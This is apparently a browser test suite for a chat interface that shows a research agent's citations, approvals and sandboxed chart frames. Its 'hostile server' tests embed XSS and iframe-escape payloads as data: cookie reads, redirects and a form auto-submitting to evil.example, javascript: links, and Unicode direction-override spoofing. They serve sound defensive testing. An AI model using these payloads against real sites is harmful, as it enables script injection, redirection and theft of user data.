// The research agent in the page: steps, citations that resolve late, their preview and list, a chart in its place; an approval; and a server
// whose charts and sources try to get out.
import assert from "node:assert/strict";
import { test } from "node:test";
import { given } from "./given.mjs";
import { axe, considered, copied, drawn, open, picture, say, serve, status, turn } from "./harness.mjs";

const server = given(() => serve("--delay", "1"));

const QUERY = "?protocol=genos&api=/genos/chat/stream";
const frame = (event, data) => `data: ${JSON.stringify({ event, data })}\n\n`;
const state = (urls, charts = {}, pages = {}) => frame("tool_state", { id_to_url: urls, id_to_iframe: charts, url_to_page: pages, current_url: null, tool_results: {} });

/** Starts every document of somebody else's, the last one first. Their code may come after the words. */
async function startAll(page) {
  await page.locator(".ps-frame-start").first().waitFor();
  await drawn(page);
  for (const start of (await page.locator(".ps-frame-start").all()).reverse()) await start.click();
}

/** A page whose research agent answers with exactly this body. */
async function answering(body, options = {}) {
  const page = await open(null, { reducedMotion: "reduce", ...options });
  await page.route((url) => url.pathname === "/genos/chat/stream", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body }));
  await page.goto(`${server.origin}/${QUERY}`);
  await status(page, "ready");
  return page;
}

for (const [locale, question, sources, kept] of [
  ["ko-KR", "파이썬은 언제 시작됐고, 지금 얼마나 쓰이나요? 출처와 함께 알려줘", /출처 \(4\)/, "【참고】"],
  ["en-US", "When did Python begin, and how much is it used today? Tell me with sources", /Sources \(4\)/, "【Note】"],
  ["zh-CN", "Python 是什么时候诞生的，现在使用率有多高？请附上来源", /来源（4）/, "【注意】"],
]) {
  test(`a research answer in ${locale}`, { timeout: 60000 }, async () => {
    const page = await open(null, { reducedMotion: "reduce", locale });
    // No frame may show half of a marker.
    await page.addInitScript(() => {
      window.raw = [];
      new MutationObserver(() => {
        for (const prose of document.querySelectorAll(".ps-prose")) if (/†|【\d/.test(prose.textContent)) window.raw.push(prose.textContent);
      }).observe(document, { childList: true, subtree: true, characterData: true });
    });
    await page.goto(`${server.origin}/${QUERY}`);
    await status(page, "ready");
    await say(page, question);
    const answer = page.locator("article").last();
    assert.deepEqual(await page.evaluate(() => window.raw), []);
    const text = await answer.textContent();
    assert.ok(text.includes(kept), "an ordinary bracket stays");
    assert.match(text, sources);
    assert.deepEqual(await answer.locator(".ps-prose .ps-cite").allTextContents(), ["1", "2", "3", "1", "4", "4", "4"]);
    const steps = answer.locator(".ps-trail");
    assert.equal(await steps.evaluate((steps) => steps.open), false, "steps close when the answer begins");
    await steps.locator("summary").click();
    assert.equal(await steps.locator("li").count(), 5);
    await answer.locator(".ps-chart-mark canvas, .ps-chart-mark svg").first().waitFor();
    await axe(page, `research in ${locale}`);
    await page.setViewportSize({ width: 320, height: 640 });
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "a long title and a wide answer fit a small screen");
    await picture(page, `genos-${locale}`);
  });
}

test("a source by pointer and by keyboard, and as a footnote", { timeout: 60000 }, async () => {
  const page = await open(null, { reducedMotion: "reduce", permissions: ["clipboard-read", "clipboard-write"] });
  await page.goto(`${server.origin}/${QUERY}`);
  await status(page, "ready");
  await say(page, "When did Python begin? Tell me with sources");
  const chip = page.locator(".ps-cite").first();
  const card = page.locator("#ps-preview");
  assert.equal(await chip.getAttribute("aria-label"), "Source 1: Python (programming language) - Wikipedia, en.wikipedia.org");
  assert.equal(await chip.getAttribute("rel"), "noopener noreferrer");
  await chip.hover();
  await card.waitFor({ state: "visible" });
  assert.match(await card.textContent(), /First appeared: 20 February 1991/);
  await card.hover();
  await page.waitForTimeout(400);
  assert.ok(await card.isVisible(), "it stays while it is pointed at");
  await page.keyboard.press("Escape");
  await card.waitFor({ state: "hidden" });
  await page.mouse.move(0, 0);
  await page.locator(".ps-trail summary").focus();
  await page.keyboard.press("Tab");
  assert.ok(await chip.evaluate((chip) => chip === document.activeElement), "the keyboard reaches the chip");
  await card.waitFor({ state: "visible" });
  assert.equal(await chip.getAttribute("aria-describedby"), "ps-preview");
  await axe(page, "a preview");
  await page.keyboard.press("Escape");
  await card.waitFor({ state: "hidden" });
  const words = await copied(page, () => page.locator("article").last().getByRole("button", { name: "Copy" }).first().click());
  assert.match(words, /20 February 1991\[1\]/);
  assert.match(words, /\n\[4\] Developer Survey – https:\/\/survey\.stackoverflow\.co\/2025\/technology$/);
  assert.ok(!words.includes("†"));

  // What was cited is still there after a reload.
  await page.reload();
  await status(page, "ready", "done");
  await page.locator(".ps-cite").first().waitFor();
  assert.deepEqual(await page.locator(".ps-prose .ps-cite").allTextContents(), ["1", "2", "3", "1", "4", "4", "4"]);
});

test("a workflow that stops for a person", { timeout: 60000 }, async () => {
  const page = await open(null, { reducedMotion: "reduce" });
  await page.goto(`${server.origin}/${QUERY}`);
  await status(page, "ready");
  const bodies = [];
  page.on("request", (request) => request.method() === "POST" && request.url().includes("/genos/") && bodies.push(request.postDataJSON()));
  await say(page, "Mail this report to the team");
  const seal = page.locator(".ps-approval-card");
  await considered(page);
  await turn(page, () => seal.locator("button").last().click());
  assert.match(await page.locator("article").last().textContent(), /Sent to the team\.|I did not send it/);
  assert.equal(bodies.length, 2);
  assert.equal(bodies[0].chatId, bodies[1].chatId);
  assert.equal(bodies[1].humanInput.startNodeId, "humanInputAgentflow_en");
});

test("a document draws in a frame without an origin and says how tall it is", { timeout: 60000 }, async () => {
  const html = "<!DOCTYPE html><body><div id=c>bars</div><script>document.getElementById('c').textContent='drawn '+self.origin;parent.postMessage({type:'chart-resize',height:260},'*')</script></body>";
  const page = await answering(state({}, { "0†chart": html, "1†chart": "https://charts.example/1" }) + frame("token", "A【0†chart】B【1†chart】C【0†chart】") + frame("result", null));
  await say(page, "chart");
  assert.equal(await page.locator(".ps-frame iframe").count(), 0, "it runs when it is asked for");
  await page.locator(".ps-frame-start").click();
  const inside = page.frameLocator(".ps-frame iframe");
  await inside.locator("#c").getByText("drawn null").waitFor();
  await page.waitForFunction(() => document.querySelector(".ps-frame-box").getBoundingClientRect().height < 300);
  const attributes = await page.locator(".ps-frame iframe").evaluate((frame) => Object.fromEntries([...frame.attributes].map((a) => [a.name, a.value])));
  assert.equal(attributes.sandbox, "allow-scripts");
  assert.equal(attributes.referrerpolicy, "no-referrer");
  assert.equal(await page.locator(".ps-frame-card a").getAttribute("href"), "https://charts.example/1", "an origin that isn't listed is a link");
  assert.equal(await page.locator(".ps-frame-again").count(), 1, "the second mention leads to the first");
  await page.waitForTimeout(200);
  await axe(page, "charts of others");
});

test("a hostile server", { timeout: 60000 }, async () => {
  const escape = `<!DOCTYPE html><title>evil</title><script>
    const tries = [() => (top.document.title = "pwned"), () => (parent.document.title = "pwned"), () => parent.pwned(), () => (top.location = "https://evil.example/"), () => open("https://evil.example/"),
      () => localStorage.setItem("a", "b"), () => document.cookie, () => parent.localStorage, () => alert(1)];
    for (const attempt of tries) try { attempt(); } catch {}
    for (const height of [1e9, -5, NaN, "9"]) parent.postMessage({ type: "chart-resize", height }, "*");
    parent.postMessage({ type: "chart-waiting" }, "*");
  </script><form action="https://evil.example/" method=post><input name=a></form><script>try { document.forms[0].submit(); } catch {}</script>`;
  const urls = { "0:0": "javascript:document.title='pwned'", "0:1": "data:text/html,<script>1</script>", "0:2": "https://a.example/\u202Egpj.exe", "0:3": "https://user:pw@b.example/", "0:4": "https://ok.example/" };
  const charts = { "0†chart": escape, "1†chart": "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>", "2†chart": JSON.stringify({ title: { text: "<img src=x onerror=alert(1)>", link: "javascript:alert(1)" }, tooltip: { formatter: "<img src=x onerror=alert(1)>" }, series: [{ type: "bar", name: "<b>a</b>", symbol: "image://https://evil.example/x.png", data: [1, 2] }] }), "3†chart": "<iframe srcdoc=\"&lt;script&gt;parent.document.title='pwned'&lt;/script&gt;\"></iframe>" };
  const body = state(urls, charts)
    + frame("agentFlowExecutedData", { nodeLabel: "x", data: { output: { content: JSON.stringify({ visible_url: "javascript:document.title='pwned'" }) } } })
    + frame("token", "x【0:0】【0:1†\u202Eevil†\u202Esite】【0:2】【0:3】【0:4†\u202E<img src=x onerror=document.title='pwned'>†o\u2066k】<img src=x onerror=alert(1)>\n\n【0†chart】\n\n【1†chart】\n\n【2†chart】\n\n【3†chart】\n\n【0:4†cut")
    + "data: {broken\n\n" + frame("result", null);
  const page = await answering(body);
  const asked = [];
  page.context().on("request", (request) => /evil|example/.test(new URL(request.url()).hostname) && asked.push(request.url()));
  let opened = 0;
  page.context().on("page", () => (opened += 1));
  page.on("dialog", (dialog) => { asked.push("dialog"); dialog.dismiss(); });
  await say(page, "go");
  const title = await page.title();
  await startAll(page);
  await page.locator(".ps-frame iframe").first().waitFor();
  await page.locator(".ps-frame iframe").last().scrollIntoViewIfNeeded();
  await page.waitForTimeout(1500);
  assert.equal(await page.title(), title);
  assert.ok(!/pwned|evil/.test(title));
  assert.deepEqual(asked, []);
  assert.equal(opened, 0);
  assert.equal(page.url().startsWith(server.origin), true);
  assert.equal(await page.evaluate(() => localStorage.getItem("a")), null);
  for (const height of await page.locator(".ps-frame-box").evaluateAll((boxes) => boxes.map((box) => box.getBoundingClientRect().height))) assert.ok(height <= 1600);
  const links = await page.locator("article a").evaluateAll((links) => links.map((link) => link.href));
  assert.ok(links.length > 0 && links.every((href) => href.startsWith("https://")), links.join(" "));
  assert.deepEqual(await page.locator(".ps-cite").allTextContents(), ["1", "2"]);
  const label = await page.locator(".ps-cite").last().getAttribute("aria-label");
  assert.ok(!/[\u202A-\u202E\u2066-\u2069]/.test(label), "what turns text around is made visible");
  assert.ok(!(await page.locator("article").last().textContent()).includes("†"));
  // What the frame was refused is told in its own name; nothing of ours was.
  page.allowed = [/sandboxed|Blocked|chart-frame\.html|about:srcdoc/];
});

test("what a connection that breaks off leaves behind", { timeout: 60000 }, async () => {
  const page = await answering(state({ "0:0": "https://a.example/" }) + frame("token", "kept【0:0】 and half【0:0†ti"));
  await say(page, "go");
  const text = await page.locator("article").last().textContent();
  assert.match(text, /kept.*1 and half/);
  assert.ok(!text.includes("【"));
  assert.match(await page.locator("main").textContent(), /connection|broke off/i);
  const refused = await answering('{"code":1,"error_code":"00020003","errMsg":"No such workflow"}');
  await say(refused, "go").catch(() => status(refused, "error"));
  assert.match(await refused.locator("main").textContent(), /No such workflow/);
});

test("only a frame itself says how tall it is", { timeout: 60000 }, async () => {
  // The second chart shouts for the first one, and so does the page around them; neither is heard.
  const quiet = "<!DOCTYPE html><p>quiet</p><script>setTimeout(() => parent.postMessage({ type: 'chart-resize', height: 333 }, '*'), 300)</script>";
  const loud = "<!DOCTYPE html><p>loud</p><script>for (const frame of [parent, top, ...Array.from({ length: parent.length }, (_, at) => parent[at])]) for (let n = 0; n < 20; n++) setTimeout(() => { try { frame?.postMessage({ type: 'chart-resize', height: 1500 }, '*'); frame?.postMessage({ type: 'chart-ready' }, '*'); frame?.postMessage({ html: '<h1>pwned</h1>' }, '*'); } catch {} }, n * 60)</script>";
  // A frame waits for its document only while it loads, so the hostile one shouts from the very beginning.
  const page = await answering(state({}, { "0†chart": quiet, "1†chart": loud }) + frame("token", "A\n\n【0†chart】\n\nB\n\n【1†chart】") + frame("result", null));
  await say(page, "chart");
  await startAll(page);
  await page.frameLocator(".ps-frame iframe >> nth=0").getByText("quiet").waitFor();
  await page.evaluate(() => { for (let n = 0; n < 20; n++) setTimeout(() => window.postMessage({ type: "chart-resize", height: 1200 }, "*"), n * 50); });
  await page.waitForTimeout(1800);
  const heights = await page.locator(".ps-frame-box").evaluateAll((boxes) => boxes.map((box) => Math.round(box.getBoundingClientRect().height)));
  assert.deepEqual(heights, [333, 1500]);
  assert.equal(await page.frameLocator(".ps-frame iframe >> nth=0").getByText("pwned").count(), 0, "only the page around a frame gives it a document");
  page.allowed = [/sandboxed|Blocked|chart-frame\.html|about:srcdoc/];
});

test("a chart that doesn't come, and a chart on paper", { timeout: 60000 }, async () => {
  const origin = "https://charts.example";
  const listing = await serve("--delay", "1", "--frame-origin", origin);
  try {
    const page = await open(null, { reducedMotion: "reduce" });
    const body = state({}, { "0†chart": `<iframe src="${origin}/slow" width=9></iframe>`, "1†chart": "<!DOCTYPE html><p>here</p>", "2†chart": `${origin}/fine` })
      + frame("token", "A\n\n【0†chart】\n\n【1†chart】\n\n【2†chart】\n\n【1†chart】") + frame("result", null);
    await page.route((url) => url.pathname === "/genos/chat/stream", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body }));
    // The first one never answers.
    await page.context().route((url) => url.origin === origin, (route) => route.request().url().endsWith("fine") && route.fulfill({ contentType: "text/html", body: "<p>a listed page</p>" }));
    await page.goto(`${listing.origin}/${QUERY}`);
    await status(page, "ready");
    await say(page, "chart");
    const charts = page.locator(".ps-chart-mark");
    await charts.nth(1).locator(".ps-frame-start").click();
    await charts.nth(1).locator("iframe").scrollIntoViewIfNeeded();
    await page.frameLocator(".ps-chart-mark >> nth=1 >> iframe").getByText("here").waitFor();
    await page.frameLocator(".ps-chart-mark >> nth=2 >> iframe").getByText("a listed page").waitFor();
    assert.match(await charts.nth(0).innerText(), /Loading the chart/);
    await picture(page, "genos-chart-loading");
    await page.emulateMedia({ media: "print" });
    for (const at of [0, 1, 2]) {
      assert.match(await charts.nth(at).innerText(), /shown on the screen only/);
      assert.equal(await charts.nth(at).locator("iframe").isVisible(), false);
    }
    await page.emulateMedia({ media: "screen" });
    await charts.nth(0).getByText("The chart could not be loaded.").waitFor({ timeout: 15000 });
    assert.equal(await charts.nth(0).locator("a").getAttribute("href"), `${origin}/slow`);
    assert.equal(await charts.nth(1).locator("iframe").count(), 1, "what came stays");
    await axe(page, "charts that come and don't");
    await picture(page, "genos-chart-failed");
    await page.locator(".ps-frame-again").click();
    await page.waitForTimeout(300);
    assert.ok(await charts.nth(1).evaluate((chart) => chart.getBoundingClientRect().top > 0 && chart.getBoundingClientRect().top < innerHeight), "the second mention leads to its own chart");
    page.allowed = [/charts\.example/];
  } finally {
    await listing.stop();
  }
});

test("the empty page of a flow offers the flow's own prompts, and files only where it takes them", async () => {
  const page = await open(null, { reducedMotion: "reduce" });
  await page.addInitScript(() => localStorage.setItem("partsong.settings", JSON.stringify({ protocol: "genos", body: "flowise" })));
  const told = [];
  const asked = [];
  await page.route((url) => url.pathname.startsWith("/api/v1/public-chatbotConfig/"), (route) => {
    told.push(new URL(route.request().url()).pathname);
    return route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ starterPrompts: { 0: { prompt: "When is high water?" }, 1: { prompt: "Which boats sail today?" } }, uploads: { isImageUploadAllowed: false, isRAGFileUploadAllowed: false } }) });
  });
  await page.route((url) => url.pathname === "/api/v1/prediction/flow-1", (route) => {
    asked.push(route.request().postDataJSON().question);
    return route.fulfill({ status: 200, contentType: "text/event-stream", body: frame("token", "Nine.") + frame("end", "[DONE]") });
  });
  await page.goto(`${server.origin}/?protocol=genos&api=/api/v1/prediction/flow-1`);
  await status(page, "ready");
  await page.mouse.move(200, 200);
  await page.getByRole("button", { name: "Which boats sail today?" }).waitFor();
  assert.deepEqual((await page.locator(".ps-starter").allInnerTexts()).map((words) => words.trim()), ["When is high water?", "Which boats sail today?"]);
  assert.equal(await page.getByRole("button", { name: "Attach files" }).count(), 0, "it takes none");
  await turn(page, () => page.getByRole("button", { name: "When is high water?" }).click());
  assert.deepEqual([asked, told], [["When is high water?"], ["/api/v1/public-chatbotConfig/flow-1"]]);
  // The chat that is kept takes no more than the empty one did.
  await page.goto(`${page.url().split("?")[0]}?protocol=genos&api=/api/v1/prediction/flow-1`);
  await page.getByText("Nine.").waitFor();
  await page.getByRole("button", { name: "Attach files" }).waitFor({ state: "detached" });
  assert.equal(told.length, 2, "each visit asks once");
});

test("Flowise reads an attached document before the question, a picture goes along, and a file that it can't read stays with the person", async () => {
  const page = await open(null, { reducedMotion: "reduce" });
  await page.addInitScript(() => localStorage.setItem("partsong.settings", JSON.stringify({ protocol: "genos", body: "flowise" })));
  const [read, asked] = [[], []];
  await page.route((url) => url.pathname.startsWith("/api/v1/attachments/"), (route) => {
    const form = route.request().postDataBuffer().toString("utf8");
    read.push({ path: new URL(route.request().url()).pathname, form });
    if (form.includes("broken")) return route.fulfill({ status: 500, contentType: "application/json", body: JSON.stringify({ statusCode: 500, success: false, message: "Unreadable" }) });
    return route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify([{ name: "tides.csv", mimeType: "text/csv", size: 12, content: "High water at nine." }]) });
  });
  await page.route((url) => url.pathname === "/api/v1/prediction/flow-1", (route) => {
    asked.push(route.request().postDataJSON());
    return route.fulfill({ status: 200, contentType: "text/event-stream", body: frame("token", "Nine.") + frame("end", "[DONE]") });
  });
  await page.goto(`${server.origin}/?protocol=genos&api=/api/v1/prediction/flow-1`);
  await status(page, "ready");
  const attach = (...files) => page.locator("input[type=file]").setInputFiles(files.map(([name, mimeType]) => ({ name, mimeType, buffer: Buffer.from(name) })));
  await attach(["tides.csv", "text/csv"], ["dot.png", "image/png"]);
  await say(page, "When is high water?");
  const [{ uploads, chatId }] = asked;
  assert.deepEqual(uploads.map(({ type, name, data }) => [type, name, data]), [["file:full", "tides.csv", "High water at nine."], ["file", "dot.png", `data:image/png;base64,${Buffer.from("dot.png").toString("base64")}`]]);
  assert.equal(read.length, 1, "a picture is seen as it is");
  assert.equal(read[0].path, `/api/v1/attachments/flow-1/${chatId}`);
  assert.match(read[0].form, /name="files"; filename="tides.csv"/);
  await attach(["broken.pdf", "application/pdf"]);
  await page.locator("#ps-composer").fill("And this?");
  await page.locator("#ps-composer").press("Enter");
  await page.locator("main").getByText("“broken.pdf” could not be attached.").waitFor();
  assert.equal(asked.length, 1, "nothing goes out without it");
  assert.equal(await page.locator("#ps-composer").inputValue(), "And this?");
  // This server tells nothing of itself.
  page.allowed = [/500|404/];
});
